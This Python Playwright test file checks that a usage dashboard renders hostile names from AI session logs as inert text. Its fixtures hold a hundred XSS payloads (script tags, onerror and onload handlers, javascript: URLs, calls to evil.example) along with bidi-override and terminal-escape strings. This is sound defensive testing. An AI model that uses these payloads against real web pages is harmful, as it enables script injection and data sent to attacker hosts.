"""Names from logs on the page: whatever they say, they are shown as text and do nothing."""

import json
from pathlib import Path

from playwright.sync_api import Browser, expect

from pipeline.profiles import Profile, Rule, Rules
from tests.cli.homes import reply, transcript
from tests.cli.page.browsing import period, shown

DOES = (
    "window.hit=1",
    "alert(1)",
    "top.hit=1",
    "self['hit']=1",
    "document.body.dataset.hit=1",
    "fetch('//evil.example')",
    "eval('hit=1')",
    "import('//evil.example')",
    "location='//evil.example'",
    "Function('hit=1')()",
)
WRAPS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'onmouseover='{}'autofocus onfocus='{}",
    "javascript:{}",
    "${{{}}}{{{{{}}}}}",
    "<iframe srcdoc='<script>{}</script>'>",
    "</title></table></style><script>{}</script>",
    "<a href=javascript:{}>x</a>",
    "\\u003cscript\\u003e{}\\x3c/script>",
)
HOSTILE = tuple(wrap.replace("{}", does) if wrap.count("{}") == 2 else wrap.format(does, does) for wrap in WRAPS for does in DOES)


def test_a_hundred_hostile_names_are_text(tmp_path: Path, browser: Browser, drawn: Path) -> None:
    """As model, session title and project of a call each, a hundred names run nothing, load nothing and stand there as they are."""
    assert len(set(HOSTILE)) == 100
    for number, name in enumerate(HOSTILE):
        title = json.dumps({"type": "ai-title", "sessionId": f"s{number}", "aiTitle": name})
        call = reply(number, f"2026-05-13T0{number // 20}:{number % 60:02}:00Z", session=f"s{number}", model=name, project=f"/src/{name}")
        transcript(tmp_path, f"s{number}", call, title + "\n")
    with shown(tmp_path, browser, drawn) as daemon, daemon.page() as page:
        strangers: list[str] = []
        page.on("request", lambda request: None if request.url.startswith(daemon.url) else strangers.append(request.url))
        period(page, "All Time")
        models = page.locator("[data-part=models] th.name").all_inner_texts()
        offered = page.get_by_label("Model", exact=True).locator("option").all_inner_texts()
        records: list[str] = []
        for number in range(1, 6):
            expect(page.get_by_role("navigation", name="Pages of records")).to_contain_text(f"Page {number} of 5")
            records += page.locator("[data-part=records] th.name > bdi").all_inner_texts()
            if number < 5:
                page.get_by_role("button", name="Next").click()
        consumers = page.locator("[data-part=consumers] bdi").all_inner_texts()
        page.mouse.move(600, 600)
        for path in ("/prices", "/profiles", "/health"):
            page.goto(daemon.url + path)
            expect(page.get_by_role("table").first).to_be_visible()

        assert sorted(models) == sorted(offered[1:]) == sorted(records) == sorted(HOSTILE)
        assert set(consumers) <= set(HOSTILE)
        assert page.evaluate("window.hit ?? document.body.dataset.hit ?? null") is None
        assert strangers == []
        assert daemon.troubles == []


def test_a_name_shows_what_it_hides(tmp_path: Path, browser: Browser, drawn: Path) -> None:
    """Marks that turn or hide text are shown as marks, and the name cannot turn what stands beside it."""
    names = ["\u202egnp.exe", "a\u200bb", "\x1b]8;;http://evil.example\x07x", "\ufeffbom"]
    lines = [reply(number, "2026-05-13T09:00:00Z", model=name) for number, name in enumerate(names)]
    transcript(tmp_path, "one", *lines)
    with shown(tmp_path, browser, drawn) as daemon, daemon.page() as page:
        period(page, "All Time")
        texts = page.locator("[data-part=models] tbody th.name bdi").all_inner_texts()

        assert len(texts) == len(names)
        assert all("\ufffd" in text for text in texts)
        assert not any(mark in text for text in texts for mark in "\u202e\u200b\x1b\x07\ufeff")


def test_a_failure_that_quotes_names_shows_what_they_hide(tmp_path: Path, browser: Browser, drawn: Path) -> None:
    """A model that is not there is told with those that are: as text, inside of the page, and none of them turns the sentence around."""
    names = ["\u202egnp.exe", "m" * 300, "<img src=x onerror=alert(1)>"]
    transcript(tmp_path, "one", *(reply(number, "2026-05-13T09:00:00Z", model=name) for number, name in enumerate(names)))
    with (
        shown(tmp_path, browser, drawn) as daemon,
        daemon.page("/usage?period=all&model=none", viewport={"width": 1000, "height": 700}) as page,
    ):
        told = page.get_by_role("alert")

        expect(told).to_contain_text("\ufffdgnp.exe")
        expect(told).to_contain_text(names[2])
        assert "\u202e" not in told.inner_text()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        page.get_by_role("button", name="Clear filters").click()
        expect(page.get_by_role("alert")).to_have_count(0)
        assert daemon.troubles == []


def test_a_profile_may_be_called_anything(tmp_path: Path, browser: Browser, drawn: Path) -> None:
    """A profile's name is text in its table, in the filter bar and on its own page."""
    name = "<img src=x onerror=alert(1)> & 'co'"
    transcript(tmp_path, "one", reply(1, "2026-05-13T09:00:00Z"))
    rules = Rules().create(Profile(name=name), (Rule(profile=name, agent="claude"),))
    (tmp_path / "rl").mkdir(mode=0o700)
    (tmp_path / "rl" / "profiles.json").write_bytes(rules.dump())
    with shown(tmp_path, browser, drawn) as daemon, daemon.page() as page:
        period(page, "All Time")
        assert page.locator("[data-part=profiles] th.name").inner_text() == name
        assert page.get_by_label("Profile", exact=True).locator("option").all_inner_texts() == ["All profiles", name]
        page.goto(f"{daemon.url}/profiles")
        expect(page.get_by_role("link", name=name)).to_be_visible()
